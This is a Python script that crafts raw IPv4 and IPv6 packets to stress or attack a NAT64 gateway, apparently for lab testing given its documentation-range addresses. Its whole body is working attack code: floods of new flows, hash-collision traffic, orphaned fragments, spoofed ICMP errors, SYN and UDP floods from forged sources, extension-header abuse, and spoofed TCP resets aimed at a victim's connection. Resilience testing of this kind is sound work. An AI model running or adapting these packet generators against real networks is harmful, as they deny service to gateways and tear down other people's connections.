#!/usr/bin/env python3
"""attack.py KIND SERVER RATE SECONDS [ADDRESS PORT] - packets that nobody wants, RATE a second; prints how many left

SERVER is an IPv4 address behind the gateway, reached under 64:ff9b::/96; the pool is 198.51.100.8/29. From the IPv6 side all of
it comes from one /64, 2001:db8:1ff:ffff::/64, from the IPv4 side from all over 198.18.0.0/15. KIND is one of these functions:
each makes packet number n. ADDRESS and PORT are those in the pool of a connection to port 7 of SERVER, if somebody knows.
"""
import ipaddress
import random
import socket
import struct
import sys
import time

PREFIX = bytes.fromhex("0064ff9b0000000000000000")
ATTACKER = bytes.fromhex("20010db801ffffff")
POOL = [ipaddress.IPv4Address(f"198.51.100.{n}").packed for n in range(8, 16)]
SERVER = ipaddress.IPv4Address(sys.argv[2]).packed
VICTIM = (ipaddress.IPv4Address(sys.argv[5]).packed, int(sys.argv[6])) if len(sys.argv) > 6 else None


def total(data):
    data += b"\0" * (len(data) % 2)
    value = sum(struct.unpack(f">{len(data) // 2}H", data))
    while value > 0xffff:
        value = (value & 0xffff) + (value >> 16)
    return ~value & 0xffff


def ip6(n, proto, body, at, src=None):
    """An IPv6 packet from another host of the attacker's /64 each time, its checksum put at this place."""
    src = src or ATTACKER + struct.pack(">Q", n + 1)
    dst = PREFIX + SERVER
    if at is not None:
        check = total(src + dst + struct.pack(">II", len(body), proto) + body)
        body = body[:at] + struct.pack(">H", check) + body[at + 2:]
    return struct.pack(">IHBB", 6 << 28, len(body), proto, 64) + src + dst + body


def ip4(n, proto, body, at=None, flags=0, ident=0):
    """An IPv4 packet from somebody else each time, to the pool; the kernel sums up its header."""
    src, dst = struct.pack(">I", 198 << 24 | 18 << 16 | n * 7919 & 0x1ffff), POOL[n % len(POOL)]
    if at is not None:
        pseudo = b"" if proto == 1 else src + dst + struct.pack(">HH", proto, len(body))
        body = body[:at] + struct.pack(">H", total(pseudo + body)) + body[at + 2:]
    return struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(body), ident, flags, 64, proto, 0) + src + dst + body


def udp(sport, dport, data=b"mine", check=0):
    return struct.pack(">HHHH", sport, dport, 8 + len(data), check) + data


def tcp(sport, dport, flags):
    return struct.pack(">HHIIBBHHH", sport, dport, random.getrandbits(32), 0, 0x50, flags, 1000, 0, 0)


def new_flows(n):
    return ip6(n, 17, udp(9999, 9), 6)


def keys_alike(n):
    """What a hash without a secret would put together: halves that cancel each other, the same port."""
    half = struct.pack(">Q", n << 16 | n & 0xffff)
    return ip6(n, 17, udp(4096, 9), 6, ATTACKER + bytes(a ^ b for a, b in zip(half, ATTACKER)))


def fragments6(n):
    """First ones whose rest never comes, and rests without a first one."""
    at = (0, 1480, 65000)[n % 3]
    head = struct.pack(">BBHI", 17, 0, at & 0xfff8 | 1, n)
    return ip6(n, 44, head + udp(5000, 9, bytes(64), 1), None, ATTACKER + bytes(7) + b"\1")


def fragments4(n):
    at = (0, 1480, 64000)[n % 3]
    return ip4(n, 17, udp(9, 1024 + n % 60000, bytes(64), 1), flags=0x2000 | at // 8, ident=n & 0xffff or 1)


def icmp_errors6(n):
    inside = struct.pack(">IHBB", 6 << 28, 12, 17, 60) + PREFIX + SERVER + ATTACKER + struct.pack(">Q", n) + udp(9, 5000)
    return ip6(n, 58, struct.pack(">BBHI", 1, 4, 0, 0) + inside, 2)


def icmp_errors4(n):
    inside = bytearray(struct.pack(">BBHHHBBH", 0x45, 0, 32, 1, 0, 60, 17, 0) + POOL[n % len(POOL)] + SERVER +
                       udp(1024 + n % 64000, 7))
    inside[10:12] = struct.pack(">H", total(bytes(inside[:20])))
    return ip4(n, 1, struct.pack(">BBHI", 3, 1, 0, 0) + bytes(inside), 2)


def resets4(n):
    """To every pool port, and each second one to the victim's, as if from the server; the sequence number is a guess."""
    to, port = VICTIM if VICTIM and n % 2 else (POOL[n // 2 % 8], 1024 + n // 16 % 64512)
    packet = bytearray(ip4(n, 6, b""))
    body = tcp(7, port, 4)
    check = total(SERVER + to + struct.pack(">HH", 6, len(body)) + body)
    packet[12:20], packet[2:4] = SERVER + to, struct.pack(">H", 40)
    return bytes(packet) + body[:16] + struct.pack(">H", check) + body[18:]


def resets6(n):
    return ip6(n, 6, tcp(1024 + n % 60000, 80, 4), 16)


def extension_headers(n):
    """Destination options, hop-by-hop in the wrong place, more of them than anybody needs."""
    chain, kinds = b"", [60, 60, 0, 60, 43, 60, 60, 17]
    for following in kinds[1:]:
        chain += struct.pack(">BB", following, 3) + bytes([1, 28]) + bytes(28)
    body = udp(5000, 9)
    return struct.pack(">IHBB", 6 << 28, len(chain) + len(body), kinds[0], 64) + ATTACKER + struct.pack(">Q", n) + \
        PREFIX + SERVER + chain + body


def syns4(n):
    return ip4(n, 6, tcp(1024 + n % 60000, 1024 + n // 8 % 64512, 2), 16)


def datagrams4(n):
    return ip4(n, 17, udp(53, 1024 + n // 8 % 64512), 6)


def main(kind, _, rate, seconds, *victim):
    make, rate, end = globals()[kind], int(rate), float(seconds)
    family = make(0)[0] >> 4
    s = socket.socket(socket.AF_INET6 if family == 6 else socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    ready = [make(n) for n in range(min(30000, int(rate * end)))]
    begun, n, sent = time.monotonic(), 0, 0
    while (now := time.monotonic() - begun) < end:
        due = int(now * rate)
        for _ in range(min(due - n, 100)):
            packet = ready[n % len(ready)]
            n += 1
            try:
                s.sendto(packet, (str(ipaddress.ip_address(packet[24:40] if family == 6 else packet[16:20])), 0))
                sent += 1
            except OSError:  # no room, or what the host itself does not like
                continue
        if due <= n:
            time.sleep(0.001)
    print(sent)


main(*sys.argv[1:])
